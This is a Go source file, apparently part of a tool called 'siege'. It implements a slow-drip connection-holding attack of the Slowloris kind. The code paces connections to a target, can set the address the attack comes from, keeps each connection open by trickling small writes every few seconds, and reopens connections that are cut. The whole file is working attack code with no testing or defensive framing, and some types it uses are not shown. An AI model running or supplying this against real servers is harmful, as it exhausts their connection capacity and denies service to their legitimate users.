package siege

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"sync"
	"time"

	"golang.org/x/time/rate"
)

const (
	// dials bounds the connections that a process opens in a second.
	dials       = 250
	dialTimeout = 10 * time.Second
	// dripEvery is how often a held connection sends something.
	dripEvery = 3 * time.Second
)

type dialFunc func(ctx context.Context) (net.Conn, error)

// dialer returns how to connect to the target, at most dials times a second.
func (a *assault) dialer() (dialFunc, error) {
	d := net.Dialer{Timeout: dialTimeout}
	if a.target.From != "" {
		from, err := netip.ParseAddr(a.target.From)
		if err != nil {
			return nil, fmt.Errorf("the address to attack from: %w", err)
		}
		d.LocalAddr = net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0))
	}
	pace := rate.NewLimiter(dials, 1)
	return func(ctx context.Context) (net.Conn, error) {
		if err := pace.Wait(ctx); err != nil {
			return nil, err
		}
		return d.DialContext(ctx, "tcp", a.target.Address)
	}, nil
}

// hold keeps one connection, and opens another whenever it is cut.
func (a *assault) hold(ctx context.Context, attack attack, dial dialFunc) {
	first := sync.OnceFunc(a.opened.Done)
	defer first()
	for ctx.Err() == nil {
		conn, err := dial(ctx)
		if err != nil {
			if ctx.Err() == nil {
				a.count(attack.name, "refused")
			}
			continue
		}
		a.count(attack.name, "opened")
		first()
		if drip(ctx, conn, attack.start(a.target), attack.drip) {
			a.count(attack.name, "cut")
		}
	}
}

// drip sends start and then, now and then, a little, until the connection is cut
// or ctx ends. It says whether it was cut.
func drip(ctx context.Context, conn net.Conn, start, little string) bool {
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })() // to wake the reader
	defer func() { _ = conn.Close() }()
	if _, err := io.WriteString(conn, start); err != nil {
		return ctx.Err() == nil
	}
	answer := make([]byte, 1024)
	for {
		if err := conn.SetReadDeadline(time.Now().Add(dripEvery)); err != nil {
			return ctx.Err() == nil
		}
		_, err := conn.Read(answer)
		if errors.Is(err, os.ErrDeadlineExceeded) {
			_, err = io.WriteString(conn, little)
		}
		if err != nil {
			return ctx.Err() == nil
		}
	}
}
